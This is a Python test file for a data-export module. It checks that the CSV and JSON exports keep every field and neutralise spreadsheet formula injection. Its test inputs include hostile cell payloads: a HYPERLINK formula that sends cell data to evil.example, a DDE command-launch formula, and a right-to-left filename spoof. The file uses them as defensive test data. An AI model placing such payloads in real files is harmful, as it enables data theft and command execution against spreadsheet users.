"""The record to take along: complete, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seen_online.outbox import Purpose, Sent
from seen_online.outbox.takeaway import COLUMNS, as_csv, as_json

ENTRY = Sent(
    at="2026-03-12T09:30:00.000+00:00",
    purpose=Purpose.SEARCH,
    receiver="An engine",
    method="GET",
    url="https://search.example.org/?q=Nia+Ashworth",
    sent='"Nia Ashworth", Penrith',
    status=200,
    bytes=1234,
    seconds=0.5,
)
STARTERS = tuple("=+-@|%＝＋－＠")


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff"), "Excel knows UTF-8 by this mark"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_every_field_is_there() -> None:
    head, row = rows(as_csv([ENTRY]))
    assert tuple(head) == COLUMNS
    told = dict(zip(head, row, strict=True))
    assert told["sent"] == '"Nia Ashworth", Penrith'
    assert (told["status"], told["bytes"], told["seconds"], told["beyond"]) == ("200", "1234", "0.5", "no")
    assert told["url"] == ENTRY.url
    (entry,) = json.loads(as_json([ENTRY]))
    assert set(entry) == set(COLUMNS)
    assert entry["sent"] == ENTRY.sent


def test_no_answer_is_an_empty_cell() -> None:
    _, row = rows(as_csv([Sent("", Purpose.PAGE, "", "GET", "http://www.example.org/", "", None, trouble="dns")]))
    assert row[COLUMNS.index("status")] == ""
    assert row[COLUMNS.index("trouble")] == "dns"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        '"=1"',
        "＝1",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "http://www.example.org/?a;=1+1",
        'a";"=1+1',
        "a\n=1",
        "a\x00;\x1f=1",
        " " * 50 + "=1",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    check(as_csv([Sent("", Purpose.PAGE, text, "GET", text, text)]))


@given(st.text("=+-@;,\"'\t\r\n a1|%＝", max_size=12))
@settings(max_examples=300)
def test_whatever_the_text_no_cell_begins_as_a_formula(text: str) -> None:
    check(as_csv([Sent("", Purpose.PAGE, "", "GET", "", text)]))


def check(table: str) -> None:
    """Read a table as spreadsheets of both habits do, and see that no cell of it is a formula."""
    for delimiter in ",;":
        for row in rows(table, delimiter):
            for cell in row:
                assert not cell.lstrip(' "\t\r\n').startswith(STARTERS), repr(cell)
    head, row = rows(table)
    assert len(row) == len(head), "and none breaks out of its row"


def test_json_has_nothing_that_could_mislead_an_eye() -> None:
    text = as_json([Sent("", Purpose.PAGE, "", "GET", "http://www.example.org/\u202egnp.exe", "\x1b[2J")])
    assert text.isascii()
    assert "\x1b" not in text
